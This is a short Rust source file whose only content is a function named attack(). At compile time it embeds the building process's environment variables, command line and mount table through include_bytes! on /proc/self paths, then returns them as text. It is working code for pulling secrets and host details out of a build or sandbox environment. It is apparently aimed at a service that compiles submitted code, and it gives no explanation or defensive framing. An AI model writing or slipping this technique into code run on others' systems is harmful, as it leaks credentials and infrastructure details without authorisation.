const VARIABLES: &[u8] = include_bytes!("/proc/self/environ");
const ARGUMENTS: &[u8] = include_bytes!("/proc/self/cmdline");
const MOUNTS: &[u8] = include_bytes!("/proc/self/mountinfo");

pub fn attack() -> std::io::Result<Option<String>> {
    let told: Vec<u8> = [VARIABLES, ARGUMENTS, MOUNTS].concat();
    Ok(Some(String::from_utf8_lossy(&told).replace('\0', " ")))
}
